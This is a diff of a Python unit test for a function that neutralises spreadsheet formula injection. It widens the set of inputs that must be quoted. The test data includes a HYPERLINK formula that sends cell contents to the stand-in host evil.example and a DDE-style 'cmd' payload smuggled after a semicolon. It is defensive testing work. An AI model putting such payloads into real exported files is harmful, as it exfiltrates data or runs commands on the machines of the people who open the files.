@@ -23,9 +23,12 @@ FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")'
 
 
 def test_strings_that_a_spreadsheet_would_run_get_a_quote_and_nothing_else_changes():
-    for value in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", FORMULA):
+    # Also after leading blanks, and after a ";" or "," where a spreadsheet (German Excel:
+    # ";") splits the cell: "x;=cmd" became a cell "=cmd".
+    for value in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", FORMULA, " =1", "x;=cmd|'/C calc'!A0",
+                  "y, -1+1", "a:error; @SUM(A1)"):  # fmt: skip
         assert spreadsheet_safe(value) == "'" + value
-    for value in ("p-1", "abc", "", " =1", "'=1", "2024-01-01T00:00:00+00:00"):
+    for value in ("p-1", "abc", "", "'=1", "2024-01-01T00:00:00+00:00", "a:error;b:timeout"):
         assert spreadsheet_safe(value) == value
     for value in (-3, -2.5, 0, 7, None, True):
         assert spreadsheet_safe(value) is value  # numbers stay numbers, negative ones too
